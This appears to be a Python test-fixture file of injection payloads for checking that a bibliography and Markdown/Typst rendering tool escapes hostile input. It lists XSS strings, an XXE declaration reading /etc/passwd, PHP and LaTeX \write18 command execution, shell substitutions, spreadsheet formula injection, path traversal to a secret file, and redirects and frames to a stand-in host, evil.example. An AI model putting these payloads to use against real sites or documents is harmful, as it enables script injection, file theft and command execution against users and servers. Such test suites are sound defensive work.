"""Text that some program on its way takes for something else, and the words that it comes to on a page."""

from dataclasses import dataclass

SECRET_FILE = "secret.txt"  # in the folder that holds the sources
SECRET = "words of a file that no page may show"
OTHER_HOST = "evil.example"


@dataclass(frozen=True, slots=True)
class Payload:
    """A text, and what each notation makes of it: by default all of it, None where it is a matter of taste."""

    written: str
    bib: str | None = "same"  # LaTeX commands, braces, dollars and entities are a bibliography's own notation
    prose: str | None = "same"  # entities, escapes, emphasis and links are Markdown's
    option: str | None = "same"  # an option is Markdown on one line, without control characters

    def expected(self, notation: str) -> str | None:
        """Give the words that stand on a page; `notation` is one of bib, prose, option."""
        words: str | None = getattr(self, notation)
        return self.written if words == "same" else words


# Invisible, and able to turn round the text behind them: left out, but for prose, whose paragraph keeps them to itself.
BIDIRECTIONAL = Payload("a\u202eb\u2066c\u202dd\u200fe", "abcd\u200fe", None, "abcd\u200fe")
ALL_BUT_MATH = "<style><img src=x onerror=window.pwned=12>"  # publishers write formulas of titles in MathML
PAYLOADS = {
    "script": Payload("<script>window.pwned=1</script>"),
    "end of title": Payload("</title><script>window.pwned=2</script>"),
    "end of style": Payload("</style></textarea></noscript><script>window.pwned=3</script>"),
    "end of script": Payload("</script><script>window.pwned=4</script>"),
    "HTML comment": Payload("<!--<script>window.pwned=5</script>-->", *[""] * 3),  # nobody is meant to read it
    "end of an attribute": Payload('"><img src=x onerror=window.pwned=6>'),
    "end of a quoted attribute": Payload("'><img src=x onerror=window.pwned=7>"),
    "vector": Payload("'\"><svg/onload=window.pwned=8>"),
    "another attribute": Payload('" autofocus onfocus=window.pwned=9 x="'),
    "a quoted attribute": Payload("' onmouseover=window.pwned=10 x='"),
    "frame": Payload("<iframe src=https://evil.example/></iframe><object data=//evil.example/x></object>"),
    "base": Payload("<base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>"),
    "refresh": Payload("<meta http-equiv=refresh content=0;url=https://evil.example/>"),
    "form": Payload("<form action=https://evil.example/><input autofocus onfocus=window.pwned=11></form>"),
    "formula of HTML": Payload("<math><style><img src=x onerror=window.pwned=12>", bib=ALL_BUT_MATH),
    "end of data": Payload("]]><x/>"),
    "data": Payload("<![CDATA[<script>window.pwned=13</script>]]>"),
    "entity": Payload("&#x3c;b onclick=window.pwned=14&#x3e;&#60;/b&#62;", *["<b onclick=window.pwned=14></b>"] * 3),
    "named entity": Payload("&lt;img src=x onerror=window.pwned=15&gt;", *["<img src=x onerror=window.pwned=15>"] * 3),
    "entity of an entity": Payload("&amp;lt;script&amp;gt;", *["&lt;script&gt;"] * 3),
    "declaration": Payload('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    "instruction": Payload("<?php system('id') ?>"),
    "template": Payload("{{ 7*7 }} {%raw%} <%= 7*7 %>", "7*7 %raw% <%= 7*7 %>", *["{{ 77 }} {%raw%} <%= 77 %>"] * 2),
    "LaTeX input": Payload(r"\input{/etc/passwd} \include{../secret.txt}", bib=None),
    "LaTeX write": Payload(r"\immediate\write18{id} \openin5=../secret.txt", bib=None),
    "LaTeX macro": Payload(r"\def\x{\x\x}\x \csname x\endcsname \loop\iftrue\repeat", bib=None),
    # Beside each other: where all stand in one line, what is between their dollars is a formula.
    "shell": Payload("$(id) ${IFS}`id`", *[None] * 3),
    "formula": Payload(r"$\href{javascript:window.pwned=16}{x}$ $\input{/etc/passwd}$", *[None] * 3),
    "Typst import": Payload('#import "../secret.txt"'),
    "Typst read": Payload('#read("../secret.txt") #eval("1+1") #raw(read("/etc/passwd"))'),
    "Typst string": Payload('"); #read("../secret.txt'),
    "Typst content": Payload('] #read("../secret.txt") [ #sys.version'),
    "spreadsheet": Payload("=cmd|'/C calc'!A0"),
    "spreadsheet function": Payload('=HYPERLINK("https://evil.example","x") +1 -1 @SUM(1)'),
    "Markdown link": Payload("[x](javascript:alert(1)) [y]: https://evil.example", prose=None),
    "Markdown picture": Payload("![y](https://evil.example/y.png)", prose=None, option="y"),
    "directive": Payload("```{include} ../secret.txt", bib=None, prose=None),
    "role": Payload("{download}`../secret.txt`", bib=None, prose=None),
    "RIS": Payload("ER  - TY  - JOUR TI  - Other", *["ER - TY - JOUR TI - Other"] * 3),
    "encoded line break": Payload("%0d%0aER  - %0D%0ABEGIN:VCARD", *["%0d%0aER - %0D%0ABEGIN:VCARD"] * 3),
    "vCard": Payload("x;y,z\\nTEL:666", bib=None, prose="x;y,z\\nTEL:666"),
    "quotation marks": Payload("\"'\"'´“”„«» \"", bib=None),
    "backslashes": Payload(r"\\ \" \x41 \u0041 \u{41}", None, None, r"\ \" \x41 \u0041 \u{41}".replace(r"\"", '"')),
    "names of JavaScript": Payload("__proto__ constructor toString", prose=None, option="proto constructor toString"),
    "path": Payload("../../../../etc/passwd %2e%2e%2f"),
    "bidirectional": BIDIRECTIONAL,
    "control characters": Payload("a\x01b\x07c\x1bd\x85e\u2028f", *[None] * 3),
    "no characters": Payload("a\ufffe\uffffb", *[None] * 3),
    "accents": Payload("Z" + "\u0301" * 200),
    "one letter": Payload("A" * 20_000),
}  # fmt: skip
# These break the entry or the option that they stand in; what stands beside it must not suffer.
BREAKING = {
    "a brace too few": "{ {",
    "a brace too many": "} }, note = {injected",
    "an entry inside": "}}\n@misc{injected, title = {x}}\n",
    "a quotation mark": '"',
    "NUL": "a\x00b",
    "line breaks": "a\r\nER  - \r\nTY  - JOUR\nb",
}
# What Markdown and its directives can do in the body of a record.
BLOCKS = {
    "HTML": "<script>window.pwned=20</script>\n\n<img src=x onerror=window.pwned=21>",
    "HTML in a line": "A word <b onclick=window.pwned=22>and</b> <svg onload=window.pwned=23> another.",
    "raw HTML": "```{raw} html\n<script>window.pwned=24</script>\n```",
    "raw role": "```{role} html(raw)\n:format: html\n```",
    "reStructuredText": "```{eval-rst}\n.. raw:: html\n\n   <script>window.pwned=25</script>\n```",
    "include of reStructuredText": "```{eval-rst}\n.. include:: ../../secret.txt\n```",
    "include": "```{include} ../../secret.txt\n```",
    "literal include": "```{literalinclude} ../../secret.txt\n```",
    "table of a file": "```{csv-table}\n:file: ../../secret.txt\n```",
    "picture of another host": "![](https://evil.example/z.png) ![](//evil.example/z.png)",
    "picture as a directive": "```{image} https://evil.example/z.png\n```",
    "picture from elsewhere": "![](../../secret.txt)",
    "figure from elsewhere": "```{figure} https://evil.example/z.png\n\nIts caption.\n```",
    "download": "{download}`x <../../secret.txt>` {download}`y </../secret.txt>`",
    "link to code": "[x](javascript:window.pwned=26) [y](data:text/html,z) <javascript:window.pwned=27>",
    "attributes": "[x]{onclick=window.pwned=28 style=position:fixed} word",
}  # fmt: skip
